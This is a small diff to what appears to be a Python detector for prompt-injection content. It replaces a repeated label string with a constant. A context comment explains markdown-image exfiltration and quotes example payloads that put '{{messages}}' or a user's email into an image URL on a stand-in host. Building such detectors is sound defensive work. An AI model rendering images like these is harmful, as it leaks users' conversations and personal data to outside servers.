@@ -331,6 +331,7 @@ def _frontmatter(block: str, offset: int) -> Iterator[tuple[int, str, bool]]:
         pos += len(line) + 1
 
 
+IMAGE_SENDS: Final = "renders an image whose address sends data out"
 # An image whose address carries a blank to be filled with data: rendering it sends the data out
 # ("![s](https://x.example/b.png?data={{messages}})", "?q=<user email>", "?d=THE_USERS_HISTORY").
 # (an image's text holds no `[`: a run of `![` would otherwise be read from each one to the line's end)
@@ -361,7 +362,7 @@ def addressed_hits(view: str) -> Iterator[tuple[str, int, str]]:
                 continue  # inside inline code on its line: shown, not rendered
             around = _normalise(text[max(0, m.start() - 200) : m.end() + 100])
             if not (discusses(around) or REPORTED.search(around) or "exfiltrat" in around):
-                yield "renders an image whose address sends data out", m.start(), m.group()
+                yield IMAGE_SENDS, m.start(), m.group()
                 return
     for pos, raw, addressed in _segments(text):
         s = _normalise(raw)
